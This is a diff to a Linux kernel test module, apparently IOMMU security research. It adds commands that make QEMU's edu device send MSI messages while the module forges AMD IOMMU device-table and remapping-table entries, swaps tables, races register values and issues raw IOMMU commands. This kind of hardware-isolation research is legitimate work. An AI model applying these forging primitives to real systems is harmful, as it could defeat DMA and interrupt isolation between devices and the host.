@@ -53,8 +53,18 @@
  *				and has the device edu send the message that names it; 0
  * unit OFFSET			a register of the first IOMMU, of 32 bits
  * unit OFFSET VALUE		the same after a write
- * completion			that IOMMU, of AMD's kind, carries out a command that is to
- *				interrupt when it is done; 0
+ * tell LOW HIGH		has an IOMMU of AMD's kind carry out a command; 0
+ * passed FIRST THIRD ADDRESS DATA
+ *				forges these words of edu's entry in the device table of such an
+ *				IOMMU, -1 for Linux's own, tells it, and has edu send that message
+ *				to the window of messages; 0
+ * table FIRST THIRD		has such an IOMMU use another table of devices, with such an entry,
+ *				all else as in Linux's; 0
+ * while OFFSET VALUE ADDRESS DATA
+ *				edu sends that message while a register of such an IOMMU has that
+ *				value; 0, or -5 if it reads as another one
+ * untable			has it use Linux's again; 0
+ * alone ADDRESS DATA		edu sends that message, and nothing is forged; 0
  * dma map HOW ADDRESS TO	forges what translates an address of edu's, see map() in dma.c; 0,
  *				or -14 if a store faults
  * dma forget			the IOMMU forgets all translations; 0
@@ -107,6 +117,7 @@
 #include <asm/smp.h>
 #include <asm/tsc.h>
 
+#include "amd.h"
 #include "channel.h"
 #include "configuration.h"
 #include "dma.h"
@@ -600,10 +611,22 @@ static int send_by_device(unsigned int cpu, u16 low)
 	return send_message_of_edu(per_cpu(x86_cpu_to_apicid, cpu) << MESSAGES_SHIFT, low);
 }
 
+/* The entry of the device is Linux's afterwards. */
+static int send_amd_remapped(unsigned int index, u64 low, u64 high)
+{
+	int error = attack_amd_remapping(index, low, high) ?: send_message_of_edu(0, index);
+
+	msleep(20);
+	return attack_amd_remapping(index, 0, 0) ?: attack_amd_restore() ?: error;
+}
+
 /* The entry is as an unused one afterwards. */
 static int send_remapped(unsigned int index, u64 low, u64 high)
 {
 	int error = attack_remapping(index, low, high);
+
+	if (error == -ENODEV)
+		return send_amd_remapped(index, low, high);
 
 	if (!error)
 		error = send_message_of_edu(REMAPPED | REMAPPED_LOW(index) | REMAPPED_HIGH(index),
@@ -611,6 +634,42 @@ static int send_remapped(unsigned int index, u64 low, u64 high)
 	/* It has arrived before the entry changes. */
 	msleep(20);
 	return attack_remapping(index, 0, 0) ?: error;
+}
+
+static int send_passed(u64 first, u64 third, u32 low_of_address, u16 data)
+{
+	int error = attack_amd_entry(first, third) ?: send_message_of_edu(low_of_address, data);
+
+	msleep(20);
+	return attack_amd_restore() ?: error;
+}
+
+struct message {
+	u32 low_of_address;
+	u16 data;
+};
+
+static int send_as_told(void *argument)
+{
+	const struct message *message = argument;
+	int length = send_message_of_edu(message->low_of_address, message->data);
+
+	return length < 0 ? length : 0;
+}
+
+static int send_while(unsigned int offset, u64 value, u32 low_of_address, u16 data)
+{
+	struct message message = { low_of_address, data };
+
+	return attack_amd_while(offset, value, send_as_told, &message) ?:
+	       snprintf(result, LINE, "0\n");
+}
+
+static int tell_unit(u64 low, u64 high)
+{
+	const struct attack_amd_command command = { .low = low, .high = high };
+
+	return attack_amd_tell(&command, 1) ?: snprintf(result, LINE, "0\n");
 }
 
 static int access_unit(unsigned int offset, const u64 *value)
@@ -862,12 +921,22 @@ static int carry_out(const char *command)
 		return send_by_device(cpu, a);
 	if (sscanf(command, "remapped %u %lli %lli", &first, &a, &b) == 3)
 		return send_remapped(first, a, b);
+	if (sscanf(command, "passed %lli %lli %lli %lli", &a, &b, &c, &d) == 4)
+		return send_passed(a, b, c, d);
+	if (sscanf(command, "table %lli %lli", &a, &b) == 2)
+		return attack_amd_table(a, b) ?: snprintf(result, LINE, "0\n");
+	if (sysfs_streq(command, "untable"))
+		return attack_amd_restore_table() ?: snprintf(result, LINE, "0\n");
+	if (sscanf(command, "while %lli %lli %lli %lli", &a, &b, &c, &d) == 4)
+		return send_while(a, b, c, d);
+	if (sscanf(command, "alone %lli %lli", &a, &b) == 2)
+		return send_message_of_edu(a, b);
+	if (sscanf(command, "tell %lli %lli", &a, &b) == 2)
+		return tell_unit(a, b);
 	if (sscanf(command, "unit %lli %lli", &a, &b) == 2)
 		return access_unit(a, &b);
 	if (sscanf(command, "unit %lli", &a) == 1)
 		return access_unit(a, NULL);
-	if (sysfs_streq(command, "completion"))
-		return attack_completion() ?: snprintf(result, LINE, "0\n");
 	if (!strncmp(command, "dma ", 4))
 		return attack_by_dma(command + 4, result, LINE);
 	if (sscanf(command, "flood %lli %lli %u", &a, &b, &milliseconds) == 3)
